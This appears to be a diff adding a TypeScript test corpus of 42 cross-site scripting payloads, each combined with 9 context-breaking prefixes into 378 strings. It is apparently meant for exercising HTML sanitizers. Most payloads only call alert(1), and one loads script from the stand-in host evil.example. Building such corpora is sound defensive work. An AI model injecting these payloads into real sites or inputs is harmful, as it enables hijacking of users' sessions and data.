@@ -1,0 +1,62 @@
+/**
+ * What people who want their words to run as a program write: each way to begin a program, each way out of where a text may stand.
+ * They all call `alert`, which is how a page is seen to have been fooled.
+ */
+const PROGRAMS = [
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+  '<img src=x onerror=alert(1)>',
+  '<img src=`x` onerror=alert(1)//',
+  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
+  '<svg onload=alert(1)>',
+  '<svg/onload=alert`1`>',
+  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
+  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+  '<svg><script href="data:,alert(1)"/>',
+  '<svg><style><img src=x onerror=alert(1)></style></svg>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
+  '<math href="javascript:alert(1)">x</math>',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
+  '<object data="javascript:alert(1)"></object>',
+  '<embed src="data:text/html,<script>alert(1)</script>">',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href="java\tscript:alert(1)">x</a>',
+  '<a href="&#106;avascript&colon;alert(1)">x</a>',
+  '<a href="\u0001javascript:alert(1)">x</a>',
+  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
+  '<body onload=alert(1)>',
+  '<input autofocus onfocus=alert(1)>',
+  '<details open ontoggle=alert(1)>x</details>',
+  '<video><source onerror=alert(1)></video>',
+  '<audio src=x onerror=alert(1)>',
+  '<form action="javascript:alert(1)"><button>x</button></form>',
+  '<button formaction="javascript:alert(1)" form=f>x</button>',
+  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
+  '<link rel=stylesheet href="javascript:alert(1)">',
+  '<base href="javascript:alert(1)//">',
+  '<style>@import "javascript:alert(1)";</style>',
+  '<div style="background:url(javascript:alert(1))">x</div>',
+  '<marquee onstart=alert(1)>x</marquee>',
+  '<template><img src=x onerror=alert(1)></template>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+  '[x](javascript:alert(1))',
+  '![x](x"onerror="alert(1))',
+  '<javascript:alert(1)>',
+  '{{constructor.constructor("alert(1)")()}}',
+  'javascript:alert(1)',
+] as const;
+const WAYS_OUT = [
+  '',
+  '">',
+  "'>",
+  '-->',
+  '</title>',
+  '</textarea></script>',
+  '&lt;/p&gt;',
+  ']]>',
+  '\u2028"',
+] as const;
+
+/** Every program behind every way out: 378 texts of one line or two. */
+export const scriptCorpus: readonly string[] = WAYS_OUT.flatMap((out) => PROGRAMS.map((one) => out + one));
